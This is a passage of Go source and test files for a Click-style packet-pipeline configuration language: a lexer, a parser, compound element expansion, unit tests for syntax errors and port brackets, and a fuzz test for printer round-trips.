			t.Fatalf("edge count changed: %d -> %d\n%s", len(cfg1.Edges), len(cfg2.Edges), printed)
		}
		for i := range cfg1.Decls {
			a, b := cfg1.Decls[i], cfg2.Decls[i]
			if printableName(a.Name) != b.Name || a.Class != b.Class ||
				strings.Join(a.Params, "\x00") != strings.Join(b.Params, "\x00") {
				t.Fatalf("decl %d changed: %+v -> %+v", i, a, b)
			}
		}
		for i := range cfg1.Edges {
			a, b := cfg1.Edges[i], cfg2.Edges[i]
			if printableName(a.From) != b.From || printableName(a.To) != b.To ||
				a.FromPort != b.FromPort || a.ToPort != b.ToPort {
				t.Fatalf("edge %d changed: %+v -> %+v", i, a, b)
			}
		}
	}
}
