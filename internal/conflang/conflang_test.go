package conflang

import (
	"strings"
	"testing"
)

func TestParseDeclarationAndChain(t *testing.T) {
	cfg, err := Parse(`
		// IPv4 router (paper Figure 8a)
		lookup :: IPLookup("seed=42");
		FromInput() -> CheckIPHeader() -> lookup -> DecIPTTL() -> ToOutput();
	`)
	if err != nil {
		t.Fatal(err)
	}
	if len(cfg.Decls) != 5 {
		t.Fatalf("got %d decls, want 5 (1 named + 4 anonymous)", len(cfg.Decls))
	}
	d := cfg.Decl("lookup")
	if d == nil || d.Class != "IPLookup" || len(d.Params) != 1 || d.Params[0] != "seed=42" {
		t.Fatalf("lookup decl wrong: %+v", d)
	}
	if len(cfg.Edges) != 4 {
		t.Fatalf("got %d edges, want 4", len(cfg.Edges))
	}
	// The chain must be linear through the named element.
	if cfg.Edges[1].To != "lookup" || cfg.Edges[2].From != "lookup" {
		t.Errorf("edges do not pass through 'lookup': %+v", cfg.Edges)
	}
}

func TestParseAnonymousNaming(t *testing.T) {
	cfg, err := Parse(`FromInput() -> NoOp() -> NoOp() -> ToOutput();`)
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, d := range cfg.Decls {
		if names[d.Name] {
			t.Fatalf("duplicate auto name %q", d.Name)
		}
		names[d.Name] = true
	}
	if len(cfg.Decls) != 4 {
		t.Errorf("got %d decls, want 4", len(cfg.Decls))
	}
}

func TestParsePortBrackets(t *testing.T) {
	cfg, err := Parse(`
		cls :: Classifier("ip", "ip6");
		FromInput() -> cls;
		cls[0] -> ToOutput();
		cls[1] -> Discard();
	`)
	if err != nil {
		t.Fatal(err)
	}
	var p0, p1 bool
	for _, e := range cfg.Edges {
		if e.From == "cls" && e.FromPort == 0 {
			p0 = true
		}
		if e.From == "cls" && e.FromPort == 1 {
			p1 = true
		}
	}
	if !p0 || !p1 {
		t.Errorf("output ports not parsed: %+v", cfg.Edges)
	}
}

func TestParseInputPortBracket(t *testing.T) {
	cfg, err := Parse(`
		q :: Queue("64");
		FromInput() -> [0]q;
		q -> ToOutput();
	`)
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Edges[0].ToPort != 0 || cfg.Edges[0].To != "q" {
		t.Errorf("input port bracket wrong: %+v", cfg.Edges[0])
	}
}

func TestParseInlinePortAfterAnonymous(t *testing.T) {
	cfg, err := Parse(`FromInput() -> RandomWeightedBranch("0.1")[1] -> Discard();`)
	if err != nil {
		t.Fatal(err)
	}
	last := cfg.Edges[len(cfg.Edges)-1]
	if last.FromPort != 1 {
		t.Errorf("FromPort = %d, want 1", last.FromPort)
	}
}

func TestParseComments(t *testing.T) {
	cfg, err := Parse(`
		/* block
		   comment */
		a :: NoOp(); // trailing
		FromInput() -> a -> ToOutput();
	`)
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Decl("a") == nil {
		t.Error("declaration after comments lost")
	}
}

func TestParseStringEscapes(t *testing.T) {
	cfg, err := Parse(`a :: NoOp("x\n\t\"\\y");`)
	if err != nil {
		t.Fatal(err)
	}
	if got := cfg.Decl("a").Params[0]; got != "x\n\t\"\\y" {
		t.Errorf("escaped param = %q", got)
	}
}

func TestParseErrors(t *testing.T) {
	cases := []struct {
		src     string
		wantSub string
	}{
		{`a :: ;`, "expected identifier"},
		{`a :: NoOp(unquoted);`, "quoted strings"},
		{`a :: NoOp(123);`, "quoted strings"},
		{`a :: NoOp("x" "y");`, "expected ',' or ')'"},
		{`FromInput() -> nosuch;`, "undeclared element"},
		{`a :: NoOp(); a :: NoOp();`, "declared twice"},
		{`FromInput() -> `, "expected identifier"},
		{`FromInput() ToOutput();`, "expected '->'"},
		{`a :: NoOp("unterminated`, "unterminated string"},
		{`/* open`, "unterminated block comment"},
		{`a :: NoOp(); a[x] -> a;`, "bad port"},
		{`$bad`, "unexpected character"},
		{`a : b;`, "expected '::'"},
		{`a - b;`, "expected '->'"},
		{`a :: NoOp("bad\q");`, "bad escape"},
	}
	for _, c := range cases {
		_, err := Parse(c.src)
		if err == nil {
			t.Errorf("Parse(%q) succeeded, want error containing %q", c.src, c.wantSub)
			continue
		}
		if !strings.Contains(err.Error(), c.wantSub) {
			t.Errorf("Parse(%q) error = %q, want substring %q", c.src, err, c.wantSub)
		}
		if se, ok := err.(*SyntaxError); !ok {
			t.Errorf("Parse(%q) error type %T, want *SyntaxError", c.src, err)
		} else if se.Line <= 0 {
			t.Errorf("Parse(%q) error has no line info", c.src)
		}
	}
}

func TestParseEmpty(t *testing.T) {
	cfg, err := Parse("  // nothing\n")
	if err != nil {
		t.Fatal(err)
	}
	if len(cfg.Decls) != 0 || len(cfg.Edges) != 0 {
		t.Error("empty config produced content")
	}
}

func TestParseMultipleChains(t *testing.T) {
	cfg, err := Parse(`
		src :: FromInput();
		out :: ToOutput();
		branch :: RandomWeightedBranch("0.5");
		src -> branch;
		branch[0] -> NoOp() -> out;
		branch[1] -> Discard();
	`)
	if err != nil {
		t.Fatal(err)
	}
	if len(cfg.Edges) != 4 {
		t.Errorf("got %d edges, want 4", len(cfg.Edges))
	}
}

func TestParamListEmptyAndMulti(t *testing.T) {
	cfg, err := Parse(`a :: NoOp(); b :: NoOp("1", "2", "3");`)
	if err != nil {
		t.Fatal(err)
	}
	if len(cfg.Decl("a").Params) != 0 {
		t.Error("empty param list not empty")
	}
	if got := cfg.Decl("b").Params; len(got) != 3 || got[2] != "3" {
		t.Errorf("params = %v", got)
	}
}
