package conflang

import (
	"strings"
	"testing"
)

func TestCompoundBasicExpansion(t *testing.T) {
	cfg, err := Parse(`
		elementclass CheckedV4 {
			input -> CheckIPHeader() -> DecIPTTL() -> output;
		}
		a :: CheckedV4;
		FromInput() -> a -> ToOutput();
	`)
	if err != nil {
		t.Fatal(err)
	}
	// Expanded decls: CheckIPHeader + DecIPTTL (prefixed) + FromInput + ToOutput.
	var classes []string
	for _, d := range cfg.Decls {
		classes = append(classes, d.Class)
		if d.Class == "CheckIPHeader" && !strings.HasPrefix(d.Name, "a/") {
			t.Errorf("inner element not prefixed: %q", d.Name)
		}
	}
	joined := strings.Join(classes, ",")
	for _, want := range []string{"CheckIPHeader", "DecIPTTL", "FromInput", "ToOutput"} {
		if !strings.Contains(joined, want) {
			t.Errorf("missing class %s in %v", want, classes)
		}
	}
	// Edges: FromInput -> a/Check..., a/Check -> a/Dec, a/Dec -> ToOutput.
	if len(cfg.Edges) != 3 {
		t.Fatalf("got %d edges, want 3: %+v", len(cfg.Edges), cfg.Edges)
	}
	if !strings.HasPrefix(cfg.Edges[1].To, "a/") && !strings.HasPrefix(cfg.Edges[1].From, "a/") {
		t.Errorf("middle edge not inside compound: %+v", cfg.Edges[1])
	}
}

func TestCompoundAnonymousAndMultipleInstances(t *testing.T) {
	cfg, err := Parse(`
		elementclass P { input -> NoOp() -> output; }
		x :: P;
		FromInput() -> x -> P() -> ToOutput();
	`)
	if err != nil {
		t.Fatal(err)
	}
	// Two NoOp instances with distinct prefixes.
	count := 0
	names := map[string]bool{}
	for _, d := range cfg.Decls {
		if d.Class == "NoOp" {
			count++
			if names[d.Name] {
				t.Fatalf("duplicate expanded name %q", d.Name)
			}
			names[d.Name] = true
		}
	}
	if count != 2 {
		t.Errorf("%d NoOp instances, want 2", count)
	}
}

func TestCompoundWithInternalEdgesAndBranch(t *testing.T) {
	cfg, err := Parse(`
		elementclass Filtered {
			b :: RandomWeightedBranch("0.1");
			input -> b;
			b[0] -> NoOp() -> output;
			b[1] -> Discard();
		}
		FromInput() -> Filtered() -> ToOutput();
	`)
	if err != nil {
		t.Fatal(err)
	}
	// The Discard stays inside; entry is the branch, exit is the NoOp.
	var haveDiscard bool
	for _, d := range cfg.Decls {
		if d.Class == "Discard" {
			haveDiscard = true
		}
	}
	if !haveDiscard {
		t.Error("internal Discard lost in expansion")
	}
	// The branch port 1 edge must be preserved.
	found := false
	for _, e := range cfg.Edges {
		if e.FromPort == 1 && strings.HasSuffix(e.From, "/b") {
			found = true
		}
	}
	if !found {
		t.Errorf("branch port edge lost: %+v", cfg.Edges)
	}
}

func TestCompoundNested(t *testing.T) {
	cfg, err := Parse(`
		elementclass Inner { input -> NoOp() -> output; }
		elementclass Outer {
			i :: Inner;
			input -> i -> output;
		}
		FromInput() -> Outer() -> ToOutput();
	`)
	if err != nil {
		t.Fatal(err)
	}
	// The NoOp is doubly prefixed.
	found := false
	for _, d := range cfg.Decls {
		if d.Class == "NoOp" && strings.Contains(d.Name, "/i/") {
			found = true
		}
	}
	if !found {
		t.Errorf("nested expansion names wrong: %+v", cfg.Decls)
	}
	if len(cfg.Edges) != 2 {
		t.Errorf("got %d edges, want 2 (FromInput->NoOp, NoOp->ToOutput): %+v", len(cfg.Edges), cfg.Edges)
	}
}

func TestCompoundErrors(t *testing.T) {
	cases := []struct {
		src     string
		wantSub string
	}{
		{`elementclass X { input -> output; } FromInput() -> X() -> ToOutput();`, "not supported"},
		{`elementclass X { NoOp() -> output; }`, "must connect both"},
		{`elementclass X { input -> NoOp(); }`, "must connect both"},
		{`elementclass X { input -> NoOp() -> output; input -> NoOp(); }`, "input connected twice"},
		{`elementclass X { input -> NoOp() -> output; NoOp() -> output; }`, "output connected twice"},
		{`elementclass X { input -> NoOp() -> output; } elementclass X { input -> NoOp() -> output; }`, "defined twice"},
		{`elementclass X { input -> NoOp() -> output; } a :: X("p");`, "takes no parameters"},
		{`elementclass X { input -> NoOp() -> output; } a :: X; FromInput() -> a[1] -> ToOutput();`, "port brackets on compound"},
		{`elementclass X { input -> NoOp() -> output`, "end of input"},
	}
	for _, c := range cases {
		_, err := Parse(c.src)
		if err == nil {
			t.Errorf("Parse(%q) succeeded, want %q", c.src, c.wantSub)
			continue
		}
		if !strings.Contains(err.Error(), c.wantSub) {
			t.Errorf("Parse(%q) error = %q, want substring %q", c.src, err, c.wantSub)
		}
	}
}
