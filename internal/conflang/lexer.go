// Package conflang implements NBA's pipeline configuration language: the
// Click composition language with NBA's syntax modification of mandatory
// quotation marks around element parameters (paper §3.2).
//
// Example:
//
//	lookup :: IPLookup("seed=42", "routes=8192");
//	FromInput() -> CheckIPHeader() -> lookup -> DecIPTTL() -> ToOutput();
package conflang

import (
	"fmt"
	"strings"
	"unicode"
)

type tokenKind int

const (
	tokEOF tokenKind = iota
	tokIdent
	tokString
	tokDoubleColon // ::
	tokArrow       // ->
	tokLParen
	tokRParen
	tokLBracket
	tokRBracket
	tokComma
	tokSemicolon
	tokLBrace
	tokRBrace
)

func (k tokenKind) String() string {
	switch k {
	case tokEOF:
		return "end of input"
	case tokIdent:
		return "identifier"
	case tokString:
		return "string"
	case tokDoubleColon:
		return "'::'"
	case tokArrow:
		return "'->'"
	case tokLParen:
		return "'('"
	case tokRParen:
		return "')'"
	case tokLBracket:
		return "'['"
	case tokRBracket:
		return "']'"
	case tokComma:
		return "','"
	case tokSemicolon:
		return "';'"
	case tokLBrace:
		return "'{'"
	case tokRBrace:
		return "'}'"
	default:
		return fmt.Sprintf("token(%d)", int(k))
	}
}

type token struct {
	kind tokenKind
	text string
	line int
	col  int
}

// SyntaxError reports a parse failure with position information.
type SyntaxError struct {
	Line, Col int
	Msg       string
}

func (e *SyntaxError) Error() string {
	return fmt.Sprintf("config:%d:%d: %s", e.Line, e.Col, e.Msg)
}

type lexer struct {
	src  string
	pos  int
	line int
	col  int
}

func newLexer(src string) *lexer { return &lexer{src: src, line: 1, col: 1} }

func (l *lexer) errorf(format string, args ...any) *SyntaxError {
	return &SyntaxError{Line: l.line, Col: l.col, Msg: fmt.Sprintf(format, args...)}
}

func (l *lexer) peek() byte {
	if l.pos >= len(l.src) {
		return 0
	}
	return l.src[l.pos]
}

func (l *lexer) advance() byte {
	c := l.src[l.pos]
	l.pos++
	if c == '\n' {
		l.line++
		l.col = 1
	} else {
		l.col++
	}
	return c
}

func (l *lexer) skipSpaceAndComments() error {
	for l.pos < len(l.src) {
		c := l.peek()
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			l.advance()
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '/':
			for l.pos < len(l.src) && l.peek() != '\n' {
				l.advance()
			}
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '*':
			startLine, startCol := l.line, l.col
			l.advance()
			l.advance()
			closed := false
			for l.pos+1 < len(l.src) {
				if l.peek() == '*' && l.src[l.pos+1] == '/' {
					l.advance()
					l.advance()
					closed = true
					break
				}
				l.advance()
			}
			if !closed {
				return &SyntaxError{Line: startLine, Col: startCol, Msg: "unterminated block comment"}
			}
		default:
			return nil
		}
	}
	return nil
}

func isIdentStart(c byte) bool {
	return c == '_' || unicode.IsLetter(rune(c))
}

func isIdentPart(c byte) bool {
	return c == '_' || c == '@' || unicode.IsLetter(rune(c)) || unicode.IsDigit(rune(c))
}

func (l *lexer) next() (token, error) {
	if err := l.skipSpaceAndComments(); err != nil {
		return token{}, err
	}
	line, col := l.line, l.col
	if l.pos >= len(l.src) {
		return token{kind: tokEOF, line: line, col: col}, nil
	}
	c := l.peek()
	switch {
	case c == ':':
		l.advance()
		if l.peek() != ':' {
			return token{}, &SyntaxError{Line: line, Col: col, Msg: "expected '::'"}
		}
		l.advance()
		return token{kind: tokDoubleColon, text: "::", line: line, col: col}, nil
	case c == '-':
		l.advance()
		if l.peek() != '>' {
			return token{}, &SyntaxError{Line: line, Col: col, Msg: "expected '->'"}
		}
		l.advance()
		return token{kind: tokArrow, text: "->", line: line, col: col}, nil
	case c == '(':
		l.advance()
		return token{kind: tokLParen, text: "(", line: line, col: col}, nil
	case c == ')':
		l.advance()
		return token{kind: tokRParen, text: ")", line: line, col: col}, nil
	case c == '[':
		l.advance()
		return token{kind: tokLBracket, text: "[", line: line, col: col}, nil
	case c == ']':
		l.advance()
		return token{kind: tokRBracket, text: "]", line: line, col: col}, nil
	case c == ',':
		l.advance()
		return token{kind: tokComma, text: ",", line: line, col: col}, nil
	case c == ';':
		l.advance()
		return token{kind: tokSemicolon, text: ";", line: line, col: col}, nil
	case c == '{':
		l.advance()
		return token{kind: tokLBrace, text: "{", line: line, col: col}, nil
	case c == '}':
		l.advance()
		return token{kind: tokRBrace, text: "}", line: line, col: col}, nil
	case c == '"':
		l.advance()
		var sb strings.Builder
		for {
			if l.pos >= len(l.src) {
				return token{}, &SyntaxError{Line: line, Col: col, Msg: "unterminated string"}
			}
			ch := l.advance()
			if ch == '"' {
				break
			}
			if ch == '\\' && l.pos < len(l.src) {
				esc := l.advance()
				switch esc {
				case 'n':
					sb.WriteByte('\n')
				case 't':
					sb.WriteByte('\t')
				case '"':
					sb.WriteByte('"')
				case '\\':
					sb.WriteByte('\\')
				default:
					return token{}, &SyntaxError{Line: line, Col: col, Msg: fmt.Sprintf("bad escape '\\%c'", esc)}
				}
				continue
			}
			sb.WriteByte(ch)
		}
		return token{kind: tokString, text: sb.String(), line: line, col: col}, nil
	case unicode.IsDigit(rune(c)):
		// Bare integers are allowed only inside port brackets; the parser
		// checks context. Lex as an identifier-like token.
		start := l.pos
		for l.pos < len(l.src) && unicode.IsDigit(rune(l.peek())) {
			l.advance()
		}
		return token{kind: tokIdent, text: l.src[start:l.pos], line: line, col: col}, nil
	case isIdentStart(c):
		start := l.pos
		for l.pos < len(l.src) && isIdentPart(l.peek()) {
			l.advance()
		}
		return token{kind: tokIdent, text: l.src[start:l.pos], line: line, col: col}, nil
	default:
		return token{}, &SyntaxError{Line: line, Col: col, Msg: fmt.Sprintf("unexpected character %q", c)}
	}
}
