package conflang

import (
	"strings"
	"testing"
)

// FuzzParsePrint fuzzes the lexer+parser and checks the printer round-trip:
// any input that parses must re-render (via Print) into a form that parses
// again, and the canonical rendering must be a fixed point — printing the
// re-parsed config reproduces the same text byte for byte. Inputs that fail
// to parse are fine; the parser just must reject them with an error, never a
// panic.
func FuzzParsePrint(f *testing.F) {
	seeds := []string{
		``,
		`FromInput() -> CheckIPHeader() -> ToOutput();`,
		`a :: NoOp("x", "y\n\"z\\"); FromInput() -> a -> ToOutput();`,
		`b :: RandomWeightedBranch("0.3");
		 FromInput() -> b;
		 b[0] -> ToOutput();
		 b[1] -> Discard();`,
		`FromInput() -> LoadBalance("fixed=0.8")
			-> IPLookup("entries=65536", "seed=42") -> DecIPTTL() -> ToOutput();`,
		`elementclass P { input -> NoOp() -> output; }
		 FromInput() -> P() -> ToOutput();`,
		`x[1] -> [2]y;`,
		`// comment only`,
		`a :: B("`,    // unterminated string
		`a -> [b;`,    // malformed bracket
		`:: Class();`, // missing name
		"a :: B(\"\t\\\"\"); a -> a;",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		cfg, err := Parse(src)
		if err != nil {
			return // rejection is fine; a panic would fail the fuzz run
		}
		printed := cfg.Print()
		cfg2, err := Parse(printed)
		if err != nil {
			t.Fatalf("canonical rendering failed to re-parse: %v\nsource:\n%s\nprinted:\n%s", err, src, printed)
		}
		if again := cfg2.Print(); again != printed {
			t.Fatalf("Print is not a fixed point:\nfirst:\n%s\nsecond:\n%s\nsource:\n%s", printed, again, src)
		}
		if len(cfg2.Decls) != len(cfg.Decls) || len(cfg2.Edges) != len(cfg.Edges) {
			t.Fatalf("round-trip changed shape: %d/%d decls, %d/%d edges\nsource:\n%s",
				len(cfg.Decls), len(cfg2.Decls), len(cfg.Edges), len(cfg2.Edges), src)
		}
		for i := range cfg.Decls {
			a, b := cfg.Decls[i], cfg2.Decls[i]
			if printableName(a.Name) != b.Name || a.Class != b.Class ||
				strings.Join(a.Params, "\x00") != strings.Join(b.Params, "\x00") {
				t.Fatalf("decl %d changed across round-trip: %+v -> %+v\nsource:\n%s", i, a, b, src)
			}
		}
		for i := range cfg.Edges {
			a, b := cfg.Edges[i], cfg2.Edges[i]
			if printableName(a.From) != b.From || printableName(a.To) != b.To ||
				a.FromPort != b.FromPort || a.ToPort != b.ToPort {
				t.Fatalf("edge %d changed across round-trip: %+v -> %+v\nsource:\n%s", i, a, b, src)
			}
		}
	})
}
