package conflang

import (
	"fmt"
	"strconv"
)

// Decl is one element instance declaration.
type Decl struct {
	Name   string
	Class  string
	Params []string
	Line   int
}

// Edge is one directed connection between element instances.
type Edge struct {
	From     string
	FromPort int
	To       string
	ToPort   int
	Line     int
}

// Config is the parsed configuration: named element instances (including
// auto-named anonymous ones) and the edges between them.
type Config struct {
	Decls []*Decl
	Edges []Edge

	byName map[string]*Decl
	anon   int
}

// Decl returns the declaration for name, or nil.
func (c *Config) Decl(name string) *Decl { return c.byName[name] }

// Parse parses a configuration text.
func Parse(src string) (*Config, error) {
	p := &parser{
		lex:       newLexer(src),
		cfg:       &Config{byName: map[string]*Decl{}},
		templates: map[string]*template{},
		compounds: map[string]compoundRef{},
	}
	if err := p.advance(); err != nil {
		return nil, err
	}
	for p.tok.kind != tokEOF {
		if err := p.statement(); err != nil {
			return nil, err
		}
	}
	return p.cfg, nil
}

type parser struct {
	lex *lexer
	tok token
	cfg *Config
	// templates holds elementclass definitions; compounds maps instance
	// names to their spliced entry/exit endpoints.
	templates map[string]*template
	compounds map[string]compoundRef
}

func (p *parser) advance() error {
	t, err := p.lex.next()
	if err != nil {
		return err
	}
	p.tok = t
	return nil
}

func (p *parser) errorf(format string, args ...any) error {
	return &SyntaxError{Line: p.tok.line, Col: p.tok.col, Msg: fmt.Sprintf(format, args...)}
}

func (p *parser) expect(kind tokenKind) (token, error) {
	if p.tok.kind != kind {
		return token{}, p.errorf("expected %v, found %v %q", kind, p.tok.kind, p.tok.text)
	}
	t := p.tok
	if err := p.advance(); err != nil {
		return token{}, err
	}
	return t, nil
}

// statement parses either a declaration (`name :: Class(params);`) or a
// connection chain (`ref -> ref -> ... ;`).
func (p *parser) statement() error {
	// A statement can begin with an input-port bracket only in connection
	// context, which we reject at top level for clarity.
	first, err := p.expect(tokIdent)
	if err != nil {
		return err
	}
	if first.text == "elementclass" {
		return p.parseElementClass()
	}
	if p.tok.kind == tokDoubleColon {
		return p.declaration(first)
	}
	return p.connection(first)
}

// checkName rejects digit-led tokens in name or class position: the lexer
// admits bare integers only so port brackets can use them, and a digit-led
// instance name could not be re-parsed from Print output.
func checkName(tok token) error {
	if c := tok.text[0]; c >= '0' && c <= '9' {
		return &SyntaxError{Line: tok.line, Col: tok.col,
			Msg: fmt.Sprintf("element or class name cannot start with a digit: %q", tok.text)}
	}
	return nil
}

func (p *parser) declaration(nameTok token) error {
	if err := checkName(nameTok); err != nil {
		return err
	}
	if _, exists := p.cfg.byName[nameTok.text]; exists {
		return &SyntaxError{Line: nameTok.line, Col: nameTok.col,
			Msg: fmt.Sprintf("element %q declared twice", nameTok.text)}
	}
	if _, exists := p.compounds[nameTok.text]; exists {
		return &SyntaxError{Line: nameTok.line, Col: nameTok.col,
			Msg: fmt.Sprintf("element %q declared twice", nameTok.text)}
	}
	if err := p.advance(); err != nil { // consume ::
		return err
	}
	classTok, err := p.expect(tokIdent)
	if err != nil {
		return err
	}
	if err := checkName(classTok); err != nil {
		return err
	}
	params, err := p.paramList()
	if err != nil {
		return err
	}
	if _, err := p.expect(tokSemicolon); err != nil {
		return err
	}
	if t, ok := p.templates[classTok.text]; ok {
		if len(params) != 0 {
			return &SyntaxError{Line: classTok.line, Col: classTok.col,
				Msg: fmt.Sprintf("compound %q takes no parameters", classTok.text)}
		}
		return p.expandCompound(nameTok.text, t, nameTok.line)
	}
	d := &Decl{Name: nameTok.text, Class: classTok.text, Params: params, Line: nameTok.line}
	p.cfg.Decls = append(p.cfg.Decls, d)
	p.cfg.byName[d.Name] = d
	return nil
}

// paramList parses an optional parenthesised, comma-separated list of quoted
// strings (NBA's modified Click syntax forces the quotes).
func (p *parser) paramList() ([]string, error) {
	if p.tok.kind != tokLParen {
		return nil, nil
	}
	if err := p.advance(); err != nil {
		return nil, err
	}
	var params []string
	if p.tok.kind == tokRParen {
		return params, p.advance()
	}
	for {
		if p.tok.kind != tokString {
			return nil, p.errorf("element parameters must be quoted strings (NBA syntax), found %v %q",
				p.tok.kind, p.tok.text)
		}
		params = append(params, p.tok.text)
		if err := p.advance(); err != nil {
			return nil, err
		}
		switch p.tok.kind {
		case tokComma:
			if err := p.advance(); err != nil {
				return nil, err
			}
		case tokRParen:
			return params, p.advance()
		default:
			return nil, p.errorf("expected ',' or ')' in parameter list, found %q", p.tok.text)
		}
	}
}

// nodeRef parses one endpoint of a connection: an existing instance name or
// an anonymous `Class(params)` instantiation, with optional trailing
// `[outport]`.
func (p *parser) nodeRef(tok token) (name string, outPort int, err error) {
	if err := checkName(tok); err != nil {
		return "", 0, err
	}
	if p.tok.kind == tokLParen {
		// Anonymous instantiation.
		params, perr := p.paramList()
		if perr != nil {
			return "", 0, perr
		}
		p.cfg.anon++
		name = fmt.Sprintf("%s@%d", tok.text, p.cfg.anon)
		if t, ok := p.templates[tok.text]; ok {
			if len(params) != 0 {
				return "", 0, &SyntaxError{Line: tok.line, Col: tok.col,
					Msg: fmt.Sprintf("compound %q takes no parameters", tok.text)}
			}
			if err := p.expandCompound(name, t, tok.line); err != nil {
				return "", 0, err
			}
		} else {
			d := &Decl{Name: name, Class: tok.text, Params: params, Line: tok.line}
			p.cfg.Decls = append(p.cfg.Decls, d)
			p.cfg.byName[name] = d
		}
	} else {
		_, isElem := p.cfg.byName[tok.text]
		_, isCompound := p.compounds[tok.text]
		if !isElem && !isCompound {
			return "", 0, &SyntaxError{Line: tok.line, Col: tok.col,
				Msg: fmt.Sprintf("reference to undeclared element %q (declare it with ::, or instantiate with parentheses)", tok.text)}
		}
		name = tok.text
	}
	if p.tok.kind == tokLBracket {
		if _, isCompound := p.compounds[name]; isCompound {
			return "", 0, &SyntaxError{Line: tok.line, Col: tok.col,
				Msg: fmt.Sprintf("port brackets on compound instance %q are not supported", name)}
		}
		outPort, err = p.portBracket()
		if err != nil {
			return "", 0, err
		}
	}
	return name, outPort, nil
}

func (p *parser) portBracket() (int, error) {
	if err := p.advance(); err != nil { // consume [
		return 0, err
	}
	numTok, err := p.expect(tokIdent)
	if err != nil {
		return 0, err
	}
	n, convErr := strconv.Atoi(numTok.text)
	if convErr != nil || n < 0 {
		return 0, &SyntaxError{Line: numTok.line, Col: numTok.col,
			Msg: fmt.Sprintf("bad port number %q", numTok.text)}
	}
	if _, err := p.expect(tokRBracket); err != nil {
		return 0, err
	}
	return n, nil
}

func (p *parser) connection(first token) error {
	fromName, fromPort, err := p.nodeRef(first)
	if err != nil {
		return err
	}
	for {
		arrow, err := p.expect(tokArrow)
		if err != nil {
			return err
		}
		// Optional input-port bracket before the target.
		toPort := 0
		if p.tok.kind == tokLBracket {
			toPort, err = p.portBracket()
			if err != nil {
				return err
			}
		}
		toTok, err := p.expect(tokIdent)
		if err != nil {
			return err
		}
		toName, toOutPort, err := p.nodeRef(toTok)
		if err != nil {
			return err
		}
		edge := Edge{From: fromName, FromPort: fromPort, To: toName, ToPort: toPort, Line: arrow.line}
		// Splice compound instances: edges into them go to their entry,
		// edges out of them come from their exit.
		if ref, ok := p.compounds[edge.From]; ok {
			edge.From, edge.FromPort = ref.exitFrom, ref.exitPort
		}
		if ref, ok := p.compounds[edge.To]; ok {
			edge.To, edge.ToPort = ref.entryTo, ref.entryPort
		}
		p.cfg.Edges = append(p.cfg.Edges, edge)
		fromName, fromPort = toName, toOutPort
		switch p.tok.kind {
		case tokArrow:
			continue
		case tokSemicolon:
			return p.advance()
		default:
			return p.errorf("expected '->' or ';', found %v %q", p.tok.kind, p.tok.text)
		}
	}
}
