package conflang

import "fmt"

// Compound elements (Click's `elementclass`) let configurations define
// reusable sub-pipelines:
//
//	elementclass CheckedV4 {
//	    input -> CheckIPHeader() -> DecIPTTL() -> output;
//	}
//	a :: CheckedV4;
//	FromInput() -> a -> ToOutput();
//
// Instantiation is macro expansion: the body's elements are cloned with a
// "name/" prefix and the instance's connections are spliced onto the body's
// `input` successor and `output` predecessor. One `input` and one `output`
// connection are supported (single-port compounds).

// template is a parsed elementclass body.
type template struct {
	decls []*Decl
	edges []Edge
	// entryTo is the declared name the body's `input` connects to;
	// exitFrom is the name connected into `output`.
	entryTo   string
	entryPort int // input port on the entry element
	exitFrom  string
	exitPort  int // output port on the exit element
	line      int
}

// compoundRef records how a named compound instance splices into the graph.
type compoundRef struct {
	entryTo   string
	entryPort int
	exitFrom  string
	exitPort  int
}

// parseElementClass parses `elementclass Name { ... }` after the
// `elementclass` keyword token has been consumed.
func (p *parser) parseElementClass() error {
	nameTok, err := p.expect(tokIdent)
	if err != nil {
		return err
	}
	if err := checkName(nameTok); err != nil {
		return err
	}
	if _, dup := p.templates[nameTok.text]; dup {
		return &SyntaxError{Line: nameTok.line, Col: nameTok.col,
			Msg: fmt.Sprintf("elementclass %q defined twice", nameTok.text)}
	}
	if _, err := p.expect(tokLBrace); err != nil {
		return err
	}

	// Parse the body into a scratch config with `input`/`output` as
	// implicitly declared pseudo elements.
	body := &parser{
		lex:       p.lex,
		tok:       p.tok,
		cfg:       &Config{byName: map[string]*Decl{}},
		templates: p.templates,
		compounds: map[string]compoundRef{},
	}
	for _, pseudo := range []string{"input", "output"} {
		d := &Decl{Name: pseudo, Class: "__port__", Line: nameTok.line}
		body.cfg.byName[pseudo] = d
	}
	for body.tok.kind != tokRBrace {
		if body.tok.kind == tokEOF {
			return &SyntaxError{Line: nameTok.line, Col: nameTok.col,
				Msg: fmt.Sprintf("elementclass %q: missing '}'", nameTok.text)}
		}
		if err := body.statement(); err != nil {
			return err
		}
	}
	p.tok = body.tok
	if err := p.advance(); err != nil { // consume }
		return err
	}

	t := &template{line: nameTok.line}
	for _, d := range body.cfg.Decls {
		if d.Class == "__port__" {
			continue
		}
		t.decls = append(t.decls, d)
	}
	for _, e := range body.cfg.Edges {
		switch {
		case e.From == "input" && e.To == "output":
			return &SyntaxError{Line: e.Line, Col: 1,
				Msg: fmt.Sprintf("elementclass %q: direct input -> output is not supported", nameTok.text)}
		case e.From == "input":
			if t.entryTo != "" {
				return &SyntaxError{Line: e.Line, Col: 1,
					Msg: fmt.Sprintf("elementclass %q: input connected twice", nameTok.text)}
			}
			t.entryTo = e.To
			t.entryPort = e.ToPort
		case e.To == "output":
			if t.exitFrom != "" {
				return &SyntaxError{Line: e.Line, Col: 1,
					Msg: fmt.Sprintf("elementclass %q: output connected twice", nameTok.text)}
			}
			t.exitFrom = e.From
			t.exitPort = e.FromPort
		default:
			t.edges = append(t.edges, e)
		}
	}
	if t.entryTo == "" || t.exitFrom == "" {
		return &SyntaxError{Line: nameTok.line, Col: nameTok.col,
			Msg: fmt.Sprintf("elementclass %q must connect both input and output", nameTok.text)}
	}
	p.templates[nameTok.text] = t
	return nil
}

// expandCompound instantiates template t under the given instance name,
// appending prefixed declarations and internal edges to the configuration.
func (p *parser) expandCompound(name string, t *template, line int) error {
	prefix := name + "/"
	for _, d := range t.decls {
		clone := &Decl{
			Name:   prefix + d.Name,
			Class:  d.Class,
			Params: append([]string(nil), d.Params...),
			Line:   line,
		}
		if _, dup := p.cfg.byName[clone.Name]; dup {
			return &SyntaxError{Line: line, Col: 1,
